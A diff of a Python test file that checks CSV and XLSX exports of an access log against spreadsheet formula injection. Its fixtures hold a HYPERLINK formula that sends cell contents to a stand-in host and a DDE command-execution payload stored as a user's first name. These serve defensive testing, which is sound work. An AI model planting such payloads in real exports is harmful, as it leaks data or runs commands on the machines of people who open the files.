@@ -16,6 +16,7 @@ from mentor.models import AccessAction, AccessLog
 from mentor.spreadsheet import safe_cell
 from reporting import exports
 from reporting.tables import COUNT, MONEY, Column, Table
+from tests.conftest import People
 from tests.factories import CitizenFactory, UserFactory
 
 FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"Klik")'
@@ -53,7 +54,7 @@ def test_a_formula_name_is_text_in_the_xlsx_export() -> None:
     assert cells[-3].data_type == "n"
 
 
-def test_the_access_log_csv_quotes_reasons_and_user_names(client: Client, people) -> None:
+def test_the_access_log_csv_quotes_reasons_and_user_names(client: Client, people: People) -> None:
     citizen = CitizenFactory(team=people.team)
     user = UserFactory(first_name="=cmd|' /C calc'!A0", last_name="")
     AccessLog.objects.create(user=user, citizen=citizen, action=AccessAction.LOOKUP,
